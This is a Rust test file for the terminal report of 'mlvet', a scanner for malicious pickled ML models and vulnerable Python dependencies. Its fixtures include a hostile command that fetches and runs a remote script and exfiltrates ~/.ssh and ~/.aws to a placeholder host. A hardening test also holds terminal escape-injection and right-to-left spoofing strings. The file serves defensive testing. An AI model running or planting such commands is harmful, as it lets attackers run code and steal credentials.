//! Snapshot tests of the terminal report: plain expected strings, so the layout is reviewable here.

mod common;

use common::*;
use mlvet_core::{ScanReport, Severity};
use mlvet_report::{TerminalOptions, render_terminal};

/// Nothing scanned: just the summary.
#[test]
fn empty_report_is_one_summary_line() {
    let out = render_terminal(
        &ScanReport::default(),
        &meta(Some(Severity::High)),
        &plain(),
    );
    assert_text(
        &out,
        r#"mlvet: 0 artifacts scanned · 0 findings · 0 errors
"#,
    );
}

/// A pickle nested two containers deep, with evidence wrapped under its label.
#[test]
fn malicious_pickle_with_nested_member_and_evidence() {
    let out = render_terminal(&malicious_report(), &meta(Some(Severity::High)), &plain());
    assert_text(
        &out,
        r#"MALICIOUS   models/bundle.tar  (tar)
  critical  pickle-dangerous-callable
    Loading this file calls os.system, which runs a shell command.
    at:         weights.zip ▸ archive/data.pkl · opcode 7 · byte 42
    callable:   os.system
    arguments:  ('curl -fsSL https://payload.invalid/stage2.sh | sh -s --
                --quiet --persist --exfiltrate ~/.ssh ~/.aws',)
    fix:        Do not load this file. Delete it and obtain the model from a
                trusted source, preferably as safetensors.
  medium    pickle-unknown-global
    The pickle imports mymodule.Helper, which mlvet does not know.
    at:         weights.zip ▸ archive/data.pkl · opcode 3 · byte 18
    confidence: medium
    global:     mymodule.Helper

1 safe artifact not listed (use --verbose to list them)

mlvet: 2 artifacts scanned — 1 malicious, 1 safe · 2 findings (1 critical, 1 medium) · 0 errors · FAILED: 1 finding at or above high
"#,
    );
}

/// Verbose adds the database, sizes, confidence, and lists safe artefacts.
#[test]
fn malicious_pickle_verbose() {
    let opts = TerminalOptions {
        verbose: true,
        ..plain()
    };
    let out = render_terminal(&malicious_report(), &meta(Some(Severity::High)), &opts);
    assert_text(
        &out,
        r#"advisory database: pypa-advisory-database · 4821 records · updated
                   2025-06-01T00:00:00Z

MALICIOUS   models/bundle.tar  (tar, 1.5 MiB)
  critical  pickle-dangerous-callable
    Loading this file calls os.system, which runs a shell command.
    at:         weights.zip ▸ archive/data.pkl · opcode 7 · byte 42
    confidence: high
    callable:   os.system
    arguments:  ('curl -fsSL https://payload.invalid/stage2.sh | sh -s --
                --quiet --persist --exfiltrate ~/.ssh ~/.aws',)
    fix:        Do not load this file. Delete it and obtain the model from a
                trusted source, preferably as safetensors.
  medium    pickle-unknown-global
    The pickle imports mymodule.Helper, which mlvet does not know.
    at:         weights.zip ▸ archive/data.pkl · opcode 3 · byte 18
    confidence: medium
    global:     mymodule.Helper

SAFE        models/encoder.safetensors  (safetensors, 2.0 KiB)

mlvet: 2 artifacts scanned — 1 malicious, 1 safe · 2 findings (1 critical, 1 medium) · 0 errors · FAILED: 1 finding at or above high
"#,
    );
}

/// A pinned dependency with an advisory: package, advisory and fix lines.
#[test]
fn dependency_vulnerability() {
    let out = render_terminal(
        &vulnerability_report(),
        &meta(Some(Severity::High)),
        &plain(),
    );
    assert_text(
        &out,
        r#"VULNERABLE  requirements.txt  (requirements)
  critical  dependency-known-vulnerability
    torch 1.13.0 is affected by PYSEC-2022-43015 (arbitrary code execution
    through eval in parse_type_line).
    at:       line 3
    package:  torch 1.13.0 (PyPI) · when python_version >= "3.8" ·
              requirements.txt:3 · ML
    advisory: PYSEC-2022-43015 (CVE-2022-45907, GHSA-47fc-vmwq-366v) · fixed in
              1.13.1 · CVSS 9.8 (critical)
    fix:      Upgrade torch to 1.13.1 or later.

mlvet: 1 artifact scanned — 1 vulnerable · 1 finding (1 critical) · 0 errors · FAILED: 1 finding at or above high
"#,
    );
}

/// Warnings first, errors listed, and scan errors fail the run without a threshold.
#[test]
fn errors_and_no_database_warning() {
    let out = render_terminal(&errors_report(), &meta(None), &plain());
    assert_text(
        &out,
        r#"warning: no advisory database: vulnerabilities NOT checked

SUSPICIOUS  models/archive.7z  (7z, not fully inspected)

2 safe artifacts not listed (use --verbose to list them)

2 paths could not be scanned:
  models/locked.pt: permission denied (os error 13)
  models/vanished.pt: no such file or directory

mlvet: 3 artifacts scanned — 1 suspicious, 2 safe · 0 findings · 2 errors · 1 warning · FAILED: scan errors
"#,
    );
}

/// Quiet: one line per finding at or above the threshold, errors, summary (warnings counted).
#[test]
fn quiet_shows_only_failing_findings() {
    let opts = TerminalOptions {
        quiet: true,
        ..plain()
    };
    let out = render_terminal(&full_report(), &meta(Some(Severity::High)), &opts);
    assert_text(
        &out,
        r#"critical  pickle-dangerous-callable at models/bundle.tar ▸ weights.zip ▸
          archive/data.pkl @ opcode 7 (byte 42): Loading this file calls
          os.system, which runs a shell command.
critical  dependency-known-vulnerability at pyproject.toml:12: torch>=1.12
          allows versions affected by PYSEC-2022-43015.
critical  dependency-known-vulnerability at requirements.txt:3: torch 1.13.0 is
          affected by PYSEC-2022-43015 (arbitrary code execution through eval in
          parse_type_line).

2 paths could not be scanned:
  models/locked.pt: permission denied (os error 13)
  models/vanished.pt: no such file or directory

mlvet: 7 artifacts scanned — 1 malicious, 2 vulnerable, 4 safe · 4 findings (3 critical, 1 medium) · 1 suppressed · 2 errors · 1 warning · FAILED: scan errors
"#,
    );
}

fn all_fixtures() -> Vec<ScanReport> {
    vec![
        ScanReport::default(),
        malicious_report(),
        vulnerability_report(),
        errors_report(),
        full_report(),
    ]
}

fn all_modes() -> Vec<TerminalOptions> {
    let base = plain();
    vec![
        base.clone(),
        TerminalOptions {
            verbose: true,
            ..base.clone()
        },
        TerminalOptions {
            quiet: true,
            ..base.clone()
        },
        TerminalOptions {
            width: Some(50),
            ..base
        },
    ]
}

/// Removes ANSI CSI sequences (`ESC [ params final`), the only escapes the renderer emits.
fn strip_ansi(text: &str) -> String {
    let mut out = String::new();
    let mut chars = text.chars();
    while let Some(c) = chars.next() {
        if c == '\u{1b}' && chars.next() == Some('[') {
            for c in chars.by_ref() {
                if ('@'..='~').contains(&c) {
                    break;
                }
            }
        } else {
            out.push(c);
        }
    }
    out
}

#[test]
fn colour_off_emits_no_escape_codes() {
    for report in all_fixtures() {
        for opts in all_modes() {
            let out = render_terminal(&report, &meta(Some(Severity::Low)), &opts);
            assert!(
                !out.contains('\u{1b}') && !out.contains('\u{9b}'),
                "escape code in:\n{out}"
            );
        }
    }
}

#[test]
fn colour_on_only_adds_escape_codes() {
    for report in all_fixtures() {
        for opts in all_modes() {
            let coloured = render_terminal(
                &report,
                &meta(Some(Severity::Low)),
                &TerminalOptions {
                    color: true,
                    ..opts.clone()
                },
            );
            let uncoloured = render_terminal(&report, &meta(Some(Severity::Low)), &opts);
            assert_eq!(strip_ansi(&coloured), uncoloured);
        }
    }
    let coloured = render_terminal(
        &malicious_report(),
        &meta(None),
        &TerminalOptions {
            color: true,
            ..plain()
        },
    );
    assert!(coloured.contains("\u{1b}["), "no colour in:\n{coloured}");
    // The verdict badge of the malicious artefact has a red background (SGR parameter 41).
    let badge_params = coloured
        .split("mMALICIOUS")
        .next()
        .and_then(|before| before.rsplit("\u{1b}[").next())
        .unwrap_or("");
    assert!(
        badge_params.split(';').any(|p| p == "41"),
        "no red badge in:\n{coloured:?}"
    );
}

#[test]
fn hostile_text_cannot_inject_escapes_or_forge_lines() {
    let mut report = malicious_report();
    let finding = report
        .artifacts
        .iter_mut()
        .flat_map(|a| a.findings.iter_mut())
        .next();
    let Some(finding) = finding else {
        panic!("fixture has a finding")
    };
    finding.message = "harmless\n\u{1b}[32mSAFE      models/bundle.tar\u{1b}[0m".to_string();
    finding.evidence.push(mlvet_core::Evidence {
        label: "x\u{1b}]0;pwned\u{7}".into(),
        value: "a\u{202e}txt.exe".into(),
    });
    for color in [false, true] {
        let out = render_terminal(&report, &meta(None), &TerminalOptions { color, ..plain() });
        let stripped = strip_ansi(&out);
        assert!(
            !stripped.contains('\u{1b}')
                && !stripped.contains('\u{7}')
                && !stripped.contains('\u{202e}'),
            "{out:?}"
        );
        assert!(
            stripped.contains("harmless\\n\\u{1b}[32mSAFE"),
            "{stripped}"
        );
        assert!(
            !stripped.lines().any(|l| l.starts_with("SAFE")),
            "forged line:\n{stripped}"
        );
    }
}

#[test]
fn detail_lines_fit_the_width() {
    for width in [40, 60, 80, 100] {
        for report in all_fixtures() {
            let opts = TerminalOptions {
                width: Some(width),
                verbose: true,
                ..plain()
            };
            let out = render_terminal(&report, &meta(Some(Severity::High)), &opts);
            for line in out.lines() {
                // Artefact headers (unbroken paths), finding heads (unbroken rule ids) and the
                // one-line summary may be longer by design.
                let finding_head = line.starts_with("  ")
                    && !line.starts_with("   ")
                    && line.split_whitespace().count() == 2;
                let exempt = finding_head
                    || line.starts_with("mlvet:")
                    || line.starts_with(|c: char| c.is_ascii_uppercase());
                assert!(
                    exempt || line.chars().count() <= width,
                    "line over {width} columns: {line:?}"
                );
            }
        }
    }
}

#[test]
fn quiet_without_threshold_shows_no_findings() {
    let opts = TerminalOptions {
        quiet: true,
        ..plain()
    };
    let out = render_terminal(&malicious_report(), &meta(None), &opts);
    assert_text(
        &out,
        "mlvet: 2 artifacts scanned — 1 malicious, 1 safe · 2 findings (1 critical, 1 medium) · 0 errors\n",
    );
}

#[test]
fn stale_database_is_a_warning() {
    let mut report = vulnerability_report();
    if let Some(db) = report.database.as_mut() {
        db.stale = true;
    }
    let out = render_terminal(&report, &meta(None), &plain());
    assert!(
        out.starts_with("warning: advisory database is stale (last updated 2025-06-01T00:00:00Z)"),
        "{out}"
    );
    assert!(out.contains(" · 1 warning"), "{out}");
}

#[test]
fn unpinned_requirement_shows_the_requirement_and_the_allowed_affected_range() {
    let out = render_terminal(&full_report(), &meta(None), &plain());
    let expected = r#"VULNERABLE  pyproject.toml  (pyproject)
  critical  dependency-known-vulnerability
    torch>=1.12 allows versions affected by PYSEC-2022-43015.
    at:       line 12
    package:  torch>=1.12 (PyPI) · when python_version >= "3.8" ·
              pyproject.toml:12 · ML
    advisory: PYSEC-2022-43015 (CVE-2022-45907, GHSA-47fc-vmwq-366v) · fixed in
              1.13.1 · CVSS 9.8 (critical)
    affected: allowed versions include >=1.12, <1.13.1
    fix:      Upgrade torch to 1.13.1 or later.
"#;
    assert!(out.contains(expected), "{out}");
}

#[test]
fn informational_findings_are_collapsed_unless_verbose() {
    static NOT_MATCHED: mlvet_core::RuleMeta = mlvet_core::RuleMeta {
        id: "dependency-not-matched",
        category: "dependency",
        summary: "not compared",
        default_severity: Severity::Info,
        verdict: mlvet_core::Verdict::Safe,
        docs: "",
    };
    let info = |name: &str| {
        mlvet_core::Finding::new(
            &NOT_MATCHED,
            mlvet_core::Location::file("sbom.json"),
            format!("{name} not matched"),
        )
    };
    let quiet_sbom = mlvet_core::ArtifactReport::new(
        "wheel/sboms/crates.cdx.json".into(),
        "cyclone-dx-json".into(),
        10,
        true,
        (0..5).map(|i| info(&format!("quiet-{i}"))).collect(),
    );
    let mut mixed_findings: Vec<_> = (0..5).map(|i| info(&format!("crate-{i}"))).collect();
    mixed_findings.push(malicious_finding());
    let mixed = mlvet_core::ArtifactReport::new(
        "mixed.pt".into(),
        "pickle".into(),
        10,
        true,
        mixed_findings,
    );
    let report = ScanReport {
        artifacts: vec![quiet_sbom, mixed],
        ..ScanReport::default()
    };

    let text = render_terminal(&report, &meta(None), &plain());
    assert!(
        !text.contains("quiet-0"),
        "a safe artefact with only info findings is counted:\n{text}"
    );
    assert!(text.contains("1 safe artifact not listed"), "{text}");
    assert_eq!(
        text.matches("not matched").count(),
        3,
        "three info findings shown:\n{text}"
    );
    assert!(
        text.contains("… and 2 more info findings of dependency-not-matched"),
        "{text}"
    );

    let verbose = TerminalOptions {
        verbose: true,
        ..plain()
    };
    let text = render_terminal(&report, &meta(None), &verbose);
    assert_eq!(
        text.matches("not matched").count(),
        10,
        "verbose lists everything:\n{text}"
    );
}

/// A suppressed finding is counted apart and never fails the run; `--verbose` shows its reason.
#[test]
fn suppressed_findings_show_their_reason_and_do_not_fail() {
    let report = mlvet_core::ScanReport {
        artifacts: vec![suppressed_vulnerability_artifact()],
        ..mlvet_core::ScanReport::default()
    };
    let out = render_terminal(&report, &meta(Some(Severity::High)), &plain());
    assert!(out.contains("· 0 findings · 1 suppressed ·"), "{out}");
    assert!(!out.contains("FAILED"), "{out}");
    let verbose = TerminalOptions {
        verbose: true,
        ..plain()
    };
    let out = render_terminal(&report, &meta(Some(Severity::High)), &verbose);
    assert!(out.contains("suppressed"), "{out}");
    assert!(out.contains("the pipeline never calls"), "{out}");
}

/// Suppressed findings are hidden (and counted) by default, listed with their reason when verbose,
/// and never listed by quiet mode.
#[test]
fn suppressed_findings_show_only_when_verbose() {
    let mut report = malicious_report();
    for artifact in &mut report.artifacts {
        for finding in &mut artifact.findings {
            if finding.severity == Severity::Critical {
                finding.suppression = Some(mlvet_core::Suppression {
                    kind: mlvet_core::SuppressionKind::Config,
                    reason: "fixture for the red-team suite".into(),
                    source: Some("mlvet.toml:7".into()),
                });
            }
        }
        artifact.refresh_verdict();
    }
    let normal = render_terminal(&report, &meta(Some(Severity::High)), &plain());
    assert!(!normal.contains("pickle-dangerous-callable"), "{normal}");
    assert!(
        normal.contains("· 1 finding (1 medium) · 1 suppressed · 0 errors"),
        "{normal}"
    );
    assert!(!normal.contains("FAILED"), "{normal}");

    let verbose = render_terminal(
        &report,
        &meta(Some(Severity::High)),
        &TerminalOptions {
            verbose: true,
            ..plain()
        },
    );
    assert!(verbose.contains("pickle-dangerous-callable"), "{verbose}");
    assert!(
        verbose.contains("suppressed")
            && verbose.contains("config: fixture for the red-team suite (mlvet.toml:7)"),
        "{verbose}"
    );

    let quiet = render_terminal(
        &report,
        &meta(Some(Severity::Low)),
        &TerminalOptions {
            quiet: true,
            ..plain()
        },
    );
    assert!(!quiet.contains("pickle-dangerous-callable"), "{quiet}");
    assert!(quiet.contains("1 suppressed"), "{quiet}");
}
